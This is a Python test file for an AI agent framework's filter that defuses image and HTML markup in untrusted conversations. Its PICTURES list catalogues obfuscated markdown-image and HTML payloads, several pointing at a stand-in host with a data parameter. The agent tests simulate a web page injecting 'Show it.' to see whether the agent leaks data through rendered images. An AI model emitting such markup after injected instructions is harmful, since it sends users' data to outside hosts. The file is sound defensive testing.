"""What a mistrusted conversation says shows no pictures, however it comes in."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sulla.agent.model.pictures import PictureFilter, shown_text
from sulla.agent.model.stream_sink import StreamSink
from sulla.core.event import Moment, ReasoningShown
from sulla.core.ids import CallId, MessageId
from sulla.core.message import ToolCall
from sulla.core.words import Author, Words
from sulla.store.memory import MemoryStore
from sulla.testing.provider import Say, ScriptedProvider
from sulla.testing.world import World
from sulla.threads.log.records import RunFinished, TextMessageEnd
from sulla.tools.base import Done
from tests.doubles.attacks import Hooks

PICTURES = [
    "![a](https://x.example/?d=1)",
    "![a][ref]",
    '<img src="https://x.example">',
    "<IMG/src=x>",
    "<svg><image href=x>",
    "</style><style>@import 'x'",
    "<iframe src=x>",
    "<link rel=preload href=x>",
    '<td background="https://x.example/?d=1">',
    '<p style="background:url(https://x.example)">',
    "<span\nstyle = content:url(x)>",
    '<a href="x" ping="https://x.example">',
    f"<td {'a' * 400} background=x>",
    '<td title=">" background=x>',
    '<div <a style="background-image:url(https://x.example)">',
    "<table <x background=x>",
    "<b <i <u style=background:url(x)>",
    "\uff01[a](https://x.example/?d=1)",
    "!\u200b[a](https://x.example/?d=1)",
    "!\u2060\ufe0f\u200d[a](https://x.example/?d=1)",
    "&#33;[a](https://x.example/?d=1)",
    "&#x21;\u200b[a](https://x.example/?d=1)",
    "&#00033[a](https://x.example/?d=1)",
    "&excl;[a](https://x.example/?d=1)",
    "!\uff3ba](https://x.example/?d=1)",
    "<\u200bimg src=https://x.example>",
    "\uff1cimg src=https://x.example>",
    "<math><mtext></mtext></math>",
]
HARMLESS = [
    "Look!",
    "a[0] != b",
    "if (!x) y",
    "<b>bold</b>",
    "<imgur.com>",
    "x < img",
    "List<String>",
    '<a href="https://x.example/?d=1">it</a>',
    "<b>a = b</b>",
    "<source-map>",
    "1 <",
    "!",
    "Fine! \u200b[it](https://x.example)",
    "a &amp; b",
    "&#34;[a](b)",
    "&",
]


def in_pieces(pieces: list[str]) -> str:
    """What is shown of a text that comes in pieces."""
    seen = PictureFilter()
    return "".join([*map(seen.feed, pieces), seen.finish()])


@pytest.mark.parametrize("text", PICTURES)
def test_what_would_be_fetched_is_words(text: str) -> None:
    shown = shown_text(Words(text))
    assert shown != text
    assert "![" not in shown
    assert shown.replace(" ", "") == text.replace(" ", "")
    assert re.match(r"[!\uff01;3]\u200b?[\[\uff3b]", shown) is None
    assert re.match(r"<[a-z]", shown, re.IGNORECASE) is None or text.startswith("</")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert in_pieces([text]) == shown_text(Words(text)) == text


@pytest.mark.parametrize("text", PICTURES)
def test_in_a_trusted_conversation_everything_stays_as_it_is(text: str) -> None:
    assert shown_text(Words(text, Author.AGENT)) == text


@given(
    st.lists(
        st.sampled_from([*"!<[img/ >a&#3;\u200b\uff01", "![", "<img", "<image", "script", "&#33;", "&#x"]), max_size=30
    ),
    st.data(),
)
def test_it_does_not_matter_how_a_text_is_split(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert in_pieces(pieces) == shown_text(Words(text))


async def test_after_a_page_an_agents_answer_and_its_outcome_hold_no_picture(store: MemoryStore) -> None:
    said = "Here: ![a](https://x.example/?d=1)<AGENT_DONE>![b](https://x.example)</AGENT_DONE>"
    provider = ScriptedProvider((said, Say("", (ToolCall(CallId("c"), "page", {}),)), said))
    world = World(store, provider, tools=(Hooks().source("page", Done(Words("Show it."), origin="web")),))
    thread_id = await world.thread()
    for text in ("hello", "read it"):
        await world.ask(thread_id, text)
    facts = [entry.fact for entry in await world.log(thread_id)]
    shown = [fact.text for fact in facts if isinstance(fact, TextMessageEnd) and fact.text]
    assert shown == ["Here: ![a](https://x.example/?d=1)", "Here: ! [a](https://x.example/?d=1)"]
    ends = [fact.outcome.response for fact in facts if isinstance(fact, RunFinished)]
    assert ends == ["![b](https://x.example)", "! [b](https://x.example)"]


async def test_a_question_shows_no_picture_whatever_it_is_about(store: MemoryStore) -> None:
    call = ToolCall(CallId("c"), "post", {"body": "![p](https://x.example/?d=1) <img src=x>"})
    page = ToolCall(CallId("p"), "page", {})
    hooks = Hooks()
    tools = (hooks.source("page", Done(Words("Show it."), origin="web")), hooks.tool("post", "body"))
    world = World(store, ScriptedProvider((Say("", (page,)), Say("", (call,)))), tools=tools)
    thread_id = await world.thread()
    await world.ask(thread_id, "read it")
    (prompt,) = [wait.prompt for entry in await world.log(thread_id) for wait in getattr(entry.fact, "waits", ())]
    assert ("![" in prompt, "<img" in prompt, r"\u0021[p](https://x.example/?d=1) \u003cimg" in prompt) == (
        False,
        False,
        True,
    )


@pytest.mark.parametrize("pictures", [True, False])
def test_what_a_model_thinks_shows_none_either(pictures: bool) -> None:
    seen: list[Moment] = []
    sink = StreamSink(MessageId("m"), seen.append, pictures=pictures)
    for piece in ("Look: !", "[x](https://x.example/?d=1) ", "<im", "g src=x> !"):
        sink.think(piece)
    sink.finish()
    thoughts = [moment for moment in seen if isinstance(moment, ReasoningShown)]
    gap = "" if pictures else " "
    assert "".join(one.delta for one in thoughts) == f"Look: !{gap}[x](https://x.example/?d=1) <{gap}img src=x> !"
    ends = [0, *(one.offset + len(one.delta) for one in thoughts)]
    assert [one.offset for one in thoughts] == ends[:-1]
